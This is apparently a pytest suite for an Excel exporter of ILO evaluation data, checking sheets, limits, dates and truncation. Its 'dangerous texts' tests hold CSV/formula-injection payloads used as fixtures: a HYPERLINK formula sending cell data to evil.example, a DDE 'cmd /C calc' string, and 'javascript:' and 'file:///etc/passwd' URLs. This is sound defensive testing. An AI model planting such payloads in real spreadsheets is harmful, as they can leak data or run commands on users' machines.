"""The workbook of an export: text stays text, dates are dates, nothing is lost without a word, Excel's limits hold."""

from __future__ import annotations

import csv
import datetime
import re
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pyarrow as pa
import pytest
from conftest import HUGE
from openpyxl.workbook import Workbook

from pipelines.export import excel
from pipelines.export.excel import CELL_CHARACTERS, COVER, cell_text, choose_sheets
from pipelines.export.source import EXPORTABLE, About, Rows
from pipelines.schema import arrow_schema
from pipelines.tables import Column, Table, key, may

ABOUT = About(datetime.datetime(2026, 11, 22, 5, tzinfo=datetime.UTC), "All is well.", "0.1.0")


@pytest.fixture(scope="module")
def book(exported: Path) -> Iterator[Workbook]:
    yield openpyxl.load_workbook(exported / "ieval.xlsx")


@pytest.fixture(scope="module")
def dangerous_book(exported_dangerous: Path) -> Iterator[Workbook]:
    yield openpyxl.load_workbook(exported_dangerous / "ieval.xlsx")


def rows_of(book: Workbook, sheet: str) -> list[dict[str, Any]]:
    header, *rows = book[sheet].iter_rows()
    return [{str(name.value): cell for name, cell in zip(header, row, strict=True)} for row in rows]


def made(folder: Path, values: dict[str, list[Any]], *columns: Column, name: str = "things") -> Workbook:
    """The workbook of one table made of these values, with its number as first column."""
    table = Table("main", name, "One row a thing.", (key("number", "integer", "Its number."), *columns))
    count = len(next(iter(values.values())))
    batch = pa.RecordBatch.from_pydict({"number": range(count), **values}, arrow_schema(table))
    folder.mkdir(exist_ok=True)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(excel, "EXPORTABLE", {name: table, "other": table})
        rows = Rows(table, (batch.slice(start, 4) for start in range(0, count, 4)))
        excel.write([rows], [table], ABOUT, folder, {name: count})
    return openpyxl.load_workbook(folder / "ieval.xlsx")


# ---- the cover and the sheets


def test_sheets(book: Workbook) -> None:
    names = [name for name, table in EXPORTABLE.items() if table.group != "raw"]
    assert book.sheetnames == [COVER, *names]
    assert max(map(len, names)) <= excel.SHEET_NAME


def test_cover(dangerous_book: Workbook) -> None:
    cover = [[cell.value for cell in row if cell.value is not None] for row in dangerous_book[COVER].iter_rows()]
    facts = {row[0]: row[1:] for row in cover if row}
    assert "2026-11-22 05:00 UTC" in facts["When"][0]
    assert facts["Source"] == ["https://webapps.ilo.org/ievaldiscovery"]
    assert "as observed on 2026-11-22" in facts["How to cite"][0]
    assert facts["Data quality"][0].startswith("Copies of pages in use: 3 of 3")
    assert facts["recommendations"] == [3, EXPORTABLE["recommendations"].words]
    assert facts["pages"][0] == 3
    assert "parquet/pages.parquet" in facts["pages"][1]
    links = {cell.value: cell.hyperlink.location for row in dangerous_book[COVER] for cell in row if cell.hyperlink}
    assert links["lessons"] == "'lessons'!A1"


@pytest.mark.parametrize("name", [name for name, table in EXPORTABLE.items() if table.group != "raw"])
def test_header_and_count(book: Workbook, exported: Path, name: str) -> None:
    sheet, table = book[name], EXPORTABLE[name]
    assert [cell.value for cell in sheet[1]] == [column.name for column in table.columns]
    assert [cell.comment.text for cell in sheet[1]] == [column.words for column in table.columns]
    assert sheet.freeze_panes == "B2"
    rows = pa.parquet.read_metadata(exported / "parquet" / f"{name}.parquet").num_rows
    assert sheet.max_row == max(rows, 0) + 1
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(max(rows, 1) + 1, len(table.columns)).coordinate}"
    widths = {
        number: each.width for each in sheet.column_dimensions.values() for number in range(each.min, each.max + 1)
    }
    assert all(widths[cell.column] > len(cell.value) + 3 for cell in sheet[1])


def test_no_formula_anywhere(book: Workbook, dangerous_book: Workbook) -> None:
    for each in (book, dangerous_book):
        for sheet in each:
            for row in sheet.iter_rows():
                assert all(cell.data_type != "f" for cell in row)


def test_values(book: Workbook) -> None:
    (row,) = [row for row in rows_of(book, "recommendation_overview") if row["recommendation_id"].value == 900002]
    assert row["response_date"].value == datetime.datetime(2021, 11, 5)
    assert row["response_date"].number_format == "yyyy-mm-dd"
    assert row["is_closed"].value is True
    assert row["step_count"].value == 0
    assert row["title"].alignment.wrap_text
    assert row["url"].hyperlink.target == "https://webapps.ilo.org/ievaldiscovery/recommendations/900002"
    assert {row["country_m49"].value for row in rows_of(book, "countries")} >= {"004", "008"}  # texts, zeros kept
    (kept,) = [row for row in rows_of(book, "countries") if row["country_iso3"].value == "NAM"]
    assert kept["country_iso2"].value == "NA"


# ---- dangerous texts


def test_dangerous_texts_arrive_as_texts(dangerous_book: Workbook) -> None:
    rows = {row["recommendation_id"].value: row for row in rows_of(dangerous_book, "recommendations")}
    title, comments = rows[900501]["title"], rows[900501]["comments"]
    assert (title.value, title.data_type) == ('=HYPERLINK("http://evil.example/?"&A1,"click")', "s")
    assert (comments.value, comments.data_type) == ("@SUM(1+9)*cmd|' /C calc'!A0", "s")
    assert title.quotePrefix  # nor do they become formulas when somebody edits the cell
    assert comments.quotePrefix
    assert (rows[900502]["comments"].value, rows[900502]["comments"].data_type) == ("-2+3", "s")
    assert rows[900502]["comments"].quotePrefix
    assert not rows[900503]["comments"].quotePrefix
    evaluations = [row["title"] for row in rows_of(dangerous_book, "evaluations")]
    assert [(cell.value, cell.data_type) for cell in evaluations[:2]] == [("=1+1", "s"), ("+41 22 799 61 11", "s")]


def test_control_characters_and_markup(dangerous_book: Workbook) -> None:
    rows = {row["recommendation_id"].value: row for row in rows_of(dangerous_book, "recommendations")}
    # openpyxl leaves the escape of a literal _x0041_ as it stands in the file
    title = rows[900502]["title"].value.replace("_x005F_", "_")
    assert (
        title == "\u202eRecommendation _x0041_ with \ufffd\ufffd\ufffd\ufffd\ufffd and an emoji 👩‍🏫 and a lone\nreturn"
    )
    assert rows[900502]["action_plan"].value.strip() == "<r><t>raw</t></r>"


def test_a_text_over_the_limit_is_cut_with_a_pointer(dangerous_book: Workbook) -> None:
    (row,) = [row for row in rows_of(dangerous_book, "recommendations") if row["recommendation_id"].value == 900501]
    text = row["action_plan"].value
    assert len(text.encode("utf-16-le")) // 2 <= CELL_CHARACTERS
    kept, mark = text.split(" […] ")
    assert HUGE.startswith(kept)
    assert (
        mark
        == f"[cut: {len(HUGE):,} characters, whole in column action_plan of table recommendations in the other formats]"
    )


@pytest.mark.parametrize("letter", ["a", "é", "👩", "\n", "\x01"])
@pytest.mark.parametrize("extra", [-1, 0, 1, 20_000])
def test_cell_text_at_the_limit(letter: str, extra: int) -> None:
    width = len(letter.encode("utf-16-le")) // 2
    count = CELL_CHARACTERS // width + extra
    text = cell_text(letter * count, "lessons", "context")
    assert len(text.encode("utf-16-le")) // 2 <= CELL_CHARACTERS
    assert ("[cut:" in text) == (count * width > CELL_CHARACTERS)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a\r\nb\rc\n", "a\nb\nc\n"),
        ("a\x00b\x08c\x7f", "a\ufffdb\ufffdc\ufffd"),
        ("tab\tstays", "tab\tstays"),
        ("<r>x</r>", "<r>x</r> "),
        ("", ""),
    ],
)
def test_cell_text(text: str, expected: str) -> None:
    assert cell_text(text, "t", "c") == expected


# ---- Excel's limits


def test_more_rows_than_a_sheet_holds_are_split(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(excel, "SHEET_ROWS", 4)
    name = "a_name_that_is_as_long_as_it_can"[:31]
    book = made(tmp_path, {"text": [f"row {number}" for number in range(7)]}, may("text", "text", "It."), name=name)
    assert book.sheetnames == [COVER, name, name[:27] + " (2)", name[:27] + " (3)"]
    found = [[row[1].value for row in book[sheet].iter_rows(min_row=2)] for sheet in book.sheetnames[1:]]
    assert found == [["row 0", "row 1", "row 2"], ["row 3", "row 4", "row 5"], ["row 6"]]
    assert all(book[sheet]["B1"].value == "text" for sheet in book.sheetnames[1:])
    linked = [
        cell.hyperlink.location for row in book[COVER] for cell in row if cell.hyperlink and cell.hyperlink.location
    ]
    assert linked == [f"'{sheet}'!A1" for sheet in book.sheetnames[1:]]


def test_no_row_gives_an_empty_sheet(tmp_path: Path) -> None:
    book = made(tmp_path, {"text": []}, may("text", "text", "It."))
    assert [[cell.value for cell in row] for row in book["things"].iter_rows()] == [["number", "text"]]


@pytest.mark.filterwarnings("error")
def test_more_links_than_a_sheet_holds_are_texts(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(excel, "SHEET_LINKS", 2)
    monkeypatch.setattr(excel, "SHEET_ROWS", 4)
    urls = [f"https://example.org/{number}" for number in range(6)]
    book = made(tmp_path, {"url": urls}, may("url", "text", "It."))
    cells = [cell for sheet in book.sheetnames[1:] for cell in book[sheet]["B"][1:]]
    assert [cell.value for cell in cells] == urls
    assert [bool(cell.hyperlink) for cell in cells] == [True, True, False, True, True, False]


@pytest.mark.filterwarnings("error")
def test_only_addresses_of_the_web_are_links(tmp_path: Path) -> None:
    urls = [
        "javascript:alert(1)",
        "file:///etc/passwd",
        "internal:About!A1",
        "https://example.org/" + "x" * 3000,
        "https://example.org/a b",
        "=HYPERLINK(1)",
        "https://example.org/#part",
    ]
    book = made(tmp_path, {"url": urls}, may("url", "text", "It."))
    cells = book["things"]["B"][1:]
    assert [cell.value for cell in cells] == urls
    assert [bool(cell.hyperlink) for cell in cells] == [False] * 6 + [True]


def test_numbers_and_days_that_excel_cannot_hold_are_texts(tmp_path: Path) -> None:
    values = {
        "amount": [1, 10**15 - 1, 10**15, -(2**63)],
        "day": [
            datetime.date(1, 1, 1),
            datetime.date(1899, 12, 31),
            datetime.date(2026, 1, 31),
            datetime.date(9999, 12, 31),
        ],
        "at": [datetime.datetime(2026, 1, 31, 5, tzinfo=datetime.UTC), None, None, None],
        "share": [0.25, None, float("nan"), float("inf")],
    }
    columns = [may("amount", "integer", "It."), may("day", "date", "It."), may("at", "timestamp", "It.")]
    book = made(tmp_path, values, *columns, may("share", "double", "It."))
    rows = [[cell.value for cell in row[1:]] for row in book["things"].iter_rows(min_row=2)]
    assert rows == [
        [1, "0001-01-01", datetime.datetime(2026, 1, 31, 5), 0.25],
        [10**15 - 1, "1899-12-31", None, None],
        ["1000000000000000", datetime.datetime(2026, 1, 31), None, "nan"],
        ["-9223372036854775808", datetime.datetime(9999, 12, 31), None, "inf"],
    ]


def test_what_would_make_the_workbook_too_large_is_left_out() -> None:
    tables = list(EXPORTABLE.values())
    counts = dict.fromkeys(EXPORTABLE, 10)
    assert set(choose_sheets(tables, counts)) == {"pages", "page_fields", "page_sightings"}
    counts["country_action_items"] = 200_000
    left_out = choose_sheets(tables, counts)
    assert set(left_out) == {"country_action_items", "pages", "page_fields", "page_sightings"}
    assert left_out["country_action_items"].startswith("3,800,000 cells")
    # what somebody asked for is in it, however large
    assert choose_sheets([EXPORTABLE["country_action_items"], EXPORTABLE["pages"]], counts) == {}


def test_the_same_rows_give_the_same_bytes(tmp_path: Path) -> None:
    values = {"text": ["=1", "two", None], "url": ["https://example.org/"] * 3}
    columns = (may("text", "text", "It."), may("url", "text", "It."))
    made(tmp_path / "1", values, *columns)
    made(tmp_path / "2", values, *columns)
    assert (tmp_path / "1" / "ieval.xlsx").read_bytes() == (tmp_path / "2" / "ieval.xlsx").read_bytes()
    assert [path.name for path in (tmp_path / "1").iterdir()] == ["ieval.xlsx"]  # no scratch is left


# ---- another program

OFFICE = shutil.which("soffice") or shutil.which("libreoffice")


@pytest.mark.skipif(OFFICE is None, reason="LibreOffice is not installed")
def test_libreoffice_reads_the_same(exported_dangerous: Path, dangerous_book: Workbook, tmp_path: Path) -> None:
    """Every cell of every sheet, as LibreOffice shows it."""
    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    # 44: comma, 34: quote, 76: UTF-8, 1: from the first line, then: values as shown, all sheets
    form = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
    command = [str(OFFICE), profile, "--headless", "--convert-to", form, "--outdir", str(tmp_path)]
    subprocess.run([*command, str(exported_dangerous / "ieval.xlsx")], check=True, capture_output=True, timeout=180)
    csv.field_size_limit(2**31 - 1)

    def shown(value: Any) -> str:
        if isinstance(value, bool):
            return str(value).upper()
        if isinstance(value, datetime.datetime):
            return f"{value:%Y-%m-%d}" if value.time() == datetime.time() else f"{value:%Y-%m-%d %H:%M:%S}"
        return re.sub(r"_x005F(_x[0-9A-F]{4}_)", r"\1", str(value)) if value is not None else ""

    for name in dangerous_book.sheetnames[1:]:
        with (tmp_path / f"ieval-{name}.csv").open(encoding="utf-8", newline="") as file:
            found = list(csv.reader(file))
        rows = [list(row) for row in dangerous_book[name].iter_rows(values_only=True)]
        assert len(found) == len(rows), name
        for line, row in zip(found, rows, strict=True):
            for text, value in zip(line, row, strict=True):
                if isinstance(value, int | float) and not isinstance(value, bool):
                    assert float(text.replace(",", "").rstrip("%")) == pytest.approx(
                        value * (100 if "%" in text else 1), abs=0.1
                    )
                else:
                    assert text == shown(value), (name, value)
